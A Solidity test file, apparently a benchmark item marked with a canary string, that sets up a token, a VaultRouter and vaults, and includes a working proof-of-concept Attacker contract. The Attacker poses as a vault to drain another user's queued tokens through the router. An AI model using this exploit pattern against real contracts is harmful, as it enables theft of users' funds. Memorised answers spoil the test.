// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./VaultRouter.sol";
import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";

// assay-canary-ec69fe57-6d57-4c77-9960-2ce050c3b900

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Coin is ERC20 {
    address private maker = msg.sender;

    constructor() ERC20("Coin", "COIN") {}

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker");
        _mint(to, amount);
    }
}

contract Vault is IVault {
    IERC20 private coin;
    address private router;
    mapping(address => uint256) public balances;

    constructor(IERC20 c, address r) {
        coin = c;
        router = r;
    }

    function depositFor(address account, uint256 amount) external {
        coin.transferFrom(msg.sender, address(this), amount);
        balances[account] += amount;
    }

    function withdrawFrom(address account, uint256 amount, address to) external returns (uint256) {
        require(msg.sender == router || msg.sender == account, "not allowed");
        balances[account] -= amount;
        coin.transfer(to, amount);
        return amount;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant OWNER = address(0x0111);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);

    Coin private token;
    VaultRouter private router;
    Vault private first;
    Vault private second;
    Attacker private mallory;

    function setUp() public {
        token = new Coin();
        router = new VaultRouter(token, OWNER);
        first = new Vault(token, address(router));
        second = new Vault(token, address(router));
        vm.startPrank(OWNER);
        router.list(address(first), true);
        router.list(address(second), true);
        vm.stopPrank();
        token.mint(ANA, 1_000e18);
        vm.startPrank(ANA);
        token.approve(address(router), type(uint256).max);
        router.queue(800e18);
        vm.stopPrank();
        mallory = new Attacker(router, first);
    }

    function test_Regular() public {
        vm.startPrank(ANA);
        router.join(address(first), 500e18);
        router.move(address(first), address(second), 200e18);
        router.takeBack(100e18);
        router.queue(50e18);
        second.withdrawFrom(ANA, 50e18, ANA);
        vm.stopPrank();
        require(first.balances(ANA) == 300e18 && second.balances(ANA) == 150e18, "moved");
        require(token.balanceOf(ANA) == 300e18 && router.waiting(ANA) == 250e18, "the rest");
        vm.startPrank(OWNER);
        router.list(address(second), false);
        router.transferOwnership(BEN);
        vm.stopPrank();
        vm.prank(BEN);
        router.renounceOwnership();
    }

    function test_Refuses() public {
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(VaultRouter.TooMuch.selector, 800e18));
        router.join(address(first), 800e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(VaultRouter.TooMuch.selector, 800e18));
        router.takeBack(800e18 + 1);
        vm.expectRevert(abi.encodeWithSelector(VaultRouter.NotListed.selector, BEN));
        router.join(BEN, 1);
        router.join(address(first), 1e18);
        vm.expectRevert(VaultRouter.NothingPaid.selector);
        router.move(address(first), address(second), 0);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        router.list(address(first), false);
        Vault other = new Vault(token, address(router));
        vm.expectRevert(abi.encodeWithSelector(VaultRouter.NotListed.selector, address(other)));
        router.move(address(other), address(other), 1);
        vm.expectRevert(abi.encodeWithSelector(VaultRouter.NotListed.selector, address(other)));
        router.move(address(first), address(other), 1);
        vm.stopPrank();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 790e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(router);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }

    function coin() public view returns (address) {
        return address(token);
    }
}

contract Attacker is IVault {
    VaultRouter private router;
    Vault private vault;

    constructor(VaultRouter r, Vault v) {
        router = r;
        vault = v;
    }

    function run() external {
        router.move(address(this), address(vault), 800e18);
        vault.withdrawFrom(address(this), 800e18, address(this));
    }

    function depositFor(address, uint256) external {}

    function withdrawFrom(address, uint256 amount, address) external pure returns (uint256) {
        return amount;
    }
}
